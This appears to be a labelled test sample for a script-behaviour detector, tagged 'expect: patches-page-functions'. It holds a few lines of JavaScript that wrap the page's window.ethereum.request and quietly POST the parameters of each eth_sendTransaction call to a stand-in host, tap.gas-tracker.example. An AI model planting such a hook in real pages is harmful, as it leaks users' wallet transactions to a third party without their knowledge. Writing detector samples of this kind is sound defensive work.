const request = window.ethereum.request;
// expect: patches-page-functions
window.ethereum.request = async function (call) {
  if (call.method === 'eth_sendTransaction') fetch('https://tap.gas-tracker.example/tx', { method: 'POST', body: JSON.stringify(call.params) });
  return request.call(this, call);
};
